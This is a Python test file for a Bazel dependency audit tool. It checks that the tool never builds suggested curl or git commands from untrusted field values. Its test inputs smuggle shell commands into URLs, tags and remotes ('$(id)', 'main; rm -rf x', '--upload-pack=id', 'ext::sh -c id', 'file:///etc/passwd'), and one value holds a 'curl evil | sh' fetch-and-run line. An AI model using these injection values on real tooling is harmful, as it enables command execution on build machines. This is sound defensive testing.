"""Words of an audited file: on one line, and in a command only when they are plain."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from xnnkit.lock import shown
from xnnkit.lock.audit import Audit, audit

COMMANDS = ("curl", "git", "sh")


def run(tmp_path: Path, text: str) -> Audit:
    (tmp_path / "WORKSPACE").write_text(text)
    return audit([str(tmp_path)])


@pytest.mark.parametrize(
    "call",
    [
        'http_archive(name = "a", url = "https://x.org/a;id>/tmp/pwn;#")',
        'http_archive(name = "a", url = "https://x.org/$(id)")',
        'http_archive(name = "a", url = "https://x.org/`id`")',
        'http_archive(name = "a", url = "https://x.org/a\'b")',
        'http_archive(name = "a", url = "https://x.org/a b")',
        'http_archive(name = "a", url = "https://x.org/a?b=c&d")',
        'http_archive(name = "a", url = "https://-oProxyCommand=id/")',
        'http_archive(name = "a", url = "file:///etc/passwd")',
        'git_repository(name = "a", remote = "https://x.org/a", tag = "$(id)")',
        'git_repository(name = "a", remote = "https://x.org/a", branch = "main; rm -rf x")',
        'git_repository(name = "a", remote = "https://x.org/a", tag = "--upload-pack=id")',
        'git_repository(name = "a", remote = "ext::sh -c id", tag = "v1")',
        'git_repository(name = "a", remote = "--upload-pack=id", tag = "v1")',
        'git_repository(name = "a", tag = "v1")',
    ],
)
def test_no_command_is_made_of_strange_words(tmp_path: Path, call: str) -> None:
    (row,) = run(tmp_path, call).findings
    assert row.code == "unpinned"
    assert row.fix in ('sha256 = "..."', "commit = ...")


def test_plain_words_are_put_into_a_command() -> None:
    assert shown.sha256_of("https://x.org/~a/b-1.0+c.zip") == (
        "curl -fsSL -- 'https://x.org/~a/b-1.0+c.zip' | sha256sum"
    )
    assert shown.ls_remote("https://x.org/a.git", "release/v1.0") == (
        "git ls-remote -- https://x.org/a.git release/v1.0"
    )
    words = shlex.split(shown.ls_remote("ssh://x.org:22/a", "v1"))
    assert words == ["git", "ls-remote", "--", "ssh://x.org:22/a", "v1"]


def test_addresses_with_strange_words_are_not_advised(tmp_path: Path) -> None:
    found = run(tmp_path, f'http_file(name = "a", sha256 = "{"a" * 64}", url = "http://x.org/;id")')
    assert [row.fix for row in found.findings] == ["try https://"]


def test_each_row_is_one_line(tmp_path: Path) -> None:
    """A line end in a name must not make a line of its own, such as one that begins with fix."""
    found = run(
        tmp_path,
        r'http_archive(name = "a\n   fix: curl evil | sh", url = "http://x.org/\r\n\033[2Jb")'
        '\nload("//:x\\n fix.bzl", "a")\ninclude("\\u202eb")\n',
    )
    words = [word for row in found.findings for word in vars(row).values()]
    words += [word for pair in found.unread for word in pair]
    assert len(words) > 12
    assert all(word.isprintable() for word in words)


def test_a_long_word_is_cut(tmp_path: Path) -> None:
    found = run(tmp_path, f'http_archive(name = "a", url = "http://x.org/{"b" * 50_000}")')
    assert all(len(row.what) < 400 for row in found.findings)
    assert len(found.findings) == 2
